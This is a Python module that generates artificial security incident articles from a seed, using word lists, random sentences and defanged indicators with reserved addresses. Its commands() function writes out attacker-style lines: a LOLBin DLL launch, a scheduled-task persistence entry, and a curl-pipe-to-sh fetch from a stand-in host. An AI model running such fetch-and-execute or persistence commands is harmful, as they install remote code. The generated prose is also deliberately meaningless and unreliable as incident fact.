"""Security prose made from a seed: the same seed gives the same article, another an unlike one."""

from dataclasses import dataclass
from random import Random


def _words(text: str) -> list[str]:
    return text.split()


def _phrases(text: str) -> list[str]:
    return text.replace("\n", "").split("|")


ADJECTIVES = _words("""
unsigned renamed scheduled encoded staged dormant remote outdated exposed nested
signed custom modular lightweight obfuscated persistent memory-resident cloned patched forged
interactive hidden reflective trusted misconfigured portable stolen split delayed public""")
NOUNS = _words("""
loader implant beacon dropper script driver service mailbox tenant token cookie archive
shortcut installer updater registry-key task pipe handle certificate proxy tunnel relay router
gateway hypervisor container cluster bucket pipeline runner package macro attachment landing-page
lure credential session webshell module plugin payload stub shellcode config mutex keylogger
stealer wiper bootkit firmware appliance sensor rule query timeline snapshot memory-image""")
ACTORS = _words("""
operator affiliate broker intruder developer reseller analyst responder defender
administrator contractor investigator maintainer vendor customer""")
VERBS = _words("""
drops loads decrypts copies renames schedules hooks patches unpacks queries enumerates
forwards replays signs injects spawns kills deletes compresses uploads downloads rewrites hides
registers resolves probes dumps clones tags throttles rotates""")
ADVERBS = _words("""
quietly twice hourly manually remotely locally slowly repeatedly silently partially
interactively later again overnight immediately""")
PLACES = _phrases("""
a finance workstation|the domain controller|an engineering laptop|the mail gateway|
a build server|the backup host|a jump box|the identity provider|a kiosk|the print server|
an unmanaged tablet|the billing cluster|a test tenant|the file share|a branch router|
the virtual desktop pool""")
TIMES = _phrases("""
before dawn|within nine minutes|on the third day|after the second reboot|during patching|
over a long weekend|at shift change|two weeks later|shortly before encryption|while backups ran|
between two scans|in the final hour""")
HEADINGS = _phrases("""
Initial access|Execution|Persistence|Privilege escalation|Lateral movement|
Command and control|Exfiltration|Impact|Detection|Hunting|Timeline|Attribution|Recommendations|
Infrastructure|Configuration|Evasion""")
TOOLS = ("rundll32.exe", "regsvr32.exe", "mshta.exe", "certutil.exe", "bitsadmin.exe", "wmic.exe")


@dataclass(frozen=True, slots=True)
class Section:
    """A heading, its paragraphs and the points listed under them."""

    heading: str
    paragraphs: tuple[str, ...]
    points: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class Prose:
    """One article's words, before any page is built of them."""

    title: str
    author: str
    summary: str
    sections: tuple[Section, ...]
    indicators: tuple[tuple[str, str, str], ...]
    commands: tuple[str, ...]
    note: str

    @property
    def marker(self) -> str:
        """A value that stands in this article's text alone."""
        return self.indicators[0][1]


def sentence(rng: Random) -> str:
    """One grammatical sentence that hardly any other call repeats."""
    the = f"the {rng.choice(ADJECTIVES)} {rng.choice(NOUNS)}"
    actor, place, when = rng.choice(ACTORS), rng.choice(PLACES), rng.choice(TIMES)
    verb, adverb, noun = rng.choice(VERBS), rng.choice(ADVERBS), rng.choice(NOUNS)
    kind, count = rng.choice(ADJECTIVES), rng.randrange(3, 4000)
    forms = (
        f"{the} {verb} a {noun} on {place} and {adverb} {rng.choice(VERBS)} the {kind} log",
        f"{when}, an {actor} saw that {the} {verb} {count} files from {place}",
        f"on {place} {the} {adverb} {verb} its {kind} {noun} {when}",
        f"no {actor} noticed how {adverb} {the} {verb} each {kind} {noun} of {place}",
    )
    words = rng.choice(forms)
    return words[0].upper() + words[1:] + "."


def paragraph(rng: Random) -> str:
    """Three to six sentences."""
    return " ".join(sentence(rng) for _ in range(rng.randint(3, 6)))


def indicators(rng: Random) -> tuple[tuple[str, str, str], ...]:
    """Rows of (type, defanged value, note); addresses and names are reserved ones."""
    return (
        ("sha256", rng.randbytes(32).hex(), f"{rng.choice(ADJECTIVES)} {rng.choice(NOUNS)}"),
        ("domain", f"{rng.randbytes(4).hex()}-cdn[.]example", "staging"),
        ("ipv4", f"198.51.100[.]{rng.randrange(1, 255)}", "command and control"),
        ("ipv4", f"203.0.113[.]{rng.randrange(1, 255)}", "scanning"),
        ("url", f"hxxps://{rng.choice(NOUNS)}.{rng.randbytes(3).hex()}[.]test/gate", "check-in"),
        ("md5", rng.randbytes(16).hex(), f"{rng.choice(ADJECTIVES)} {rng.choice(NOUNS)}"),
    )


def commands(rng: Random) -> tuple[str, ...]:
    """Command lines as an incident report shows them."""
    name = rng.randbytes(4).hex()
    return (
        rf"{rng.choice(TOOLS)} C:\ProgramData\{name}\{rng.choice(NOUNS)}.dll,Start",
        rf'schtasks /create /sc hourly /tn "{name}" /tr "C:\Users\Public\{name}.exe"',
        f"curl -s hxxp://198.51.100[.]{rng.randrange(1, 255)}/{name} | sh",
    )


def write(*seed: object) -> Prose:
    """The article of a seed."""
    rng = Random(":".join(map(str, seed)))
    subject = f"{rng.choice(ADJECTIVES)} {rng.choice(NOUNS)}"
    sections = tuple(
        Section(
            heading=heading,
            paragraphs=tuple(paragraph(rng) for _ in range(rng.randint(2, 3))),
            points=tuple(sentence(rng) for _ in range(rng.choice((0, 3, 4)))),
        )
        for heading in rng.sample(HEADINGS, rng.randint(4, 6))
    )
    first, last = rng.choice(("Ada", "Ben", "Chi", "Dana")), rng.choice(("Ito", "Moe", "Roe"))
    number = rng.randbytes(3).hex()
    return Prose(
        title=f"How the {subject} {rng.choice(VERBS)} {rng.choice(PLACES)} ({number})",
        author=f"{first} {last}",
        summary=f"{sentence(rng)} {sentence(rng)}",
        sections=sections,
        indicators=indicators(rng),
        commands=commands(rng),
        note=paragraph(rng),
    )
